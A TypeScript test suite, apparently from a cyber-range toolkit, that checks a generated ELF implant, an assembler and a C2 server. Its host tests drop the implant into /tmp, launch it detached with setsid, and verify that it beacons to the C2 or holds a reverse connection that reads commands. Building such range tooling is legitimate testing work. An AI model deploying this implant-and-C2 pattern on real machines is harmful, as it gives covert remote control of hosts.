import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { assemble } from "./assembler.ts";
import { rangeAvailable } from "./available.ts";
import { type C2, startC2 } from "./c2.ts";
import { implantElf, implantShell } from "./implant.ts";
import { until } from "./machine.ts";
import { hostProcesses } from "./processes.ts";
import { Random } from "./random.ts";
import { type Range, startRange } from "./range.ts";

const unavailable = rangeAvailable();

test("the file is an ELF program whose one segment holds all of it, for any peer, line and padding", () => {
  const spec = fc.record({
    address: fc.ipV4(),
    port: fc.integer({ min: 1, max: 65535 }),
    line: fc.string({ maxLength: 100 }),
    stays: fc.boolean(),
    everyMs: fc.integer({ min: 1, max: 100_000 }),
    padding: fc.uint8Array({ maxLength: 300 }),
  });
  fc.assert(
    fc.property(spec, (made) => {
      const file = implantElf(made);
      const view = new DataView(file.buffer);
      expect([...file.slice(0, 4)]).toEqual([0x7f, 0x45, 0x4c, 0x46]);
      expect(view.getUint16(18, true)).toBe(62);
      expect(view.getBigUint64(96, true)).toBe(BigInt(file.length)); // p_filesz
      const entry = view.getBigUint64(24, true) - view.getBigUint64(80, true);
      expect(entry).toBeLessThan(BigInt(file.length));
      expect([...file.slice(Number(entry), Number(entry) + 3)]).toEqual([0x48, 0x81, 0xec]); // sub rsp
      expect(Buffer.from(file).includes(`${made.line}\n`)).toBe(true);
      const port = Buffer.from([2, 0, made.port >> 8, made.port & 0xff, ...made.address.split(".").map(Number)]);
      expect(Buffer.from(file).includes(port)).toBe(true);
    }),
  );
});

test("jumps reach their labels, backwards and forwards", () => {
  // jmp +0 to the syscall after it, then jmp back to the start: E9 00000000 0F 05 E9 (-12)
  const code = assemble([{ label: "start" }, ["jmp", "next"], { label: "next" }, ["syscall"], ["jmp", "start"]]);
  expect([...code]).toEqual([0xe9, 0, 0, 0, 0, 0x0f, 0x05, 0xe9, 0xf4, 0xff, 0xff, 0xff]);
  expect(() => assemble([["jmp", "nowhere"]])).toThrow("nowhere");
});

test("names and numbers depend on the seed alone", () => {
  fc.assert(
    fc.property(fc.integer(), (seed) => {
      const [a, b] = [new Random(seed), new Random(seed)];
      expect([a.name(), a.between(3, 9), a.shuffle([1, 2, 3])]).toEqual([b.name(), b.between(3, 9), b.shuffle([1, 2, 3])]);
      expect(a.name()).toMatch(/^[a-z][a-z0-9]{8}$/);
      const number = a.between(3, 9);
      expect(number >= 3 && number <= 9).toBe(true);
    }),
  );
  expect(new Random(1).name()).not.toBe(new Random(2).name());
});

describe.skipIf(unavailable !== undefined)("on a host", () => {
  let range: Range;
  let c2: C2;
  beforeAll(async () => {
    range = await startRange();
    c2 = await startC2(range);
  });
  afterAll(() => range.stop());

  const run = async (name: string, stays: boolean, arch: string) => {
    const spec = { address: range.c2.address, port: range.c2.port, line: `hello ${name}`, stays, everyMs: 300 };
    const path = `/tmp/${name}`;
    const { drop, run: start } = implantShell(path, spec, arch);
    const said = await range.onHost(["bash", "-c", `${drop}; setsid ${start("-a one --two 'x y'")} >/dev/null 2>&1 </dev/null &`]);
    expect(said.code, said.stderr).toBe(0);
    return { path, mine: () => c2.connections.filter((connection) => connection.line === `hello ${name}`) };
  };
  const arches = process.arch === "x64" ? ["x64", "arm64"] : [process.arch];

  test.each(arches)("the beacon connects again and again, says its line, and closes (%s)", async (arch) => {
    const { path, mine } = await run(`beacon${arch}`, false, arch);
    await until("three beacons", () => mine().filter((connection) => connection.closed).length >= 3);
    expect(mine()[0]).toMatchObject({ from: { ip: range.host.address }, bytes: `hello beacon${arch}\n`.length });
    const [process] = hostProcesses(range, path);
    expect(process?.args.slice(-4)).toEqual(["-a", "one", "--two", "x y"]);
  });

  test.each(arches)("the reverse connection stays, and reads what the C2 sends (%s)", async (arch) => {
    const { mine } = await run(`reverse${arch}`, true, arch);
    await until("the connection", () => mine().length === 1);
    // what the C2 sent has been read: nothing waits in the receive queue of the host's socket (ss, second column)
    const queue = async () => (await range.onHost(["ss", "-tnH", "state", "established", "dst", range.c2.address])).stdout;
    const bytesIn = async () => (await range.onHost(["ss", "-tniH", "state", "established", "dst", range.c2.address])).stdout;
    await until("a line of work from the C2", async () => /bytes_received:[1-9]/.test(await bytesIn()));
    await until("the line to be read", async () =>
      (await queue())
        .trim()
        .split("\n")
        .every((line) => line.trim().startsWith("0 ")),
    );
    expect(mine()).toHaveLength(1);
    expect(mine()[0]?.closed).toBe(false);
  });
});
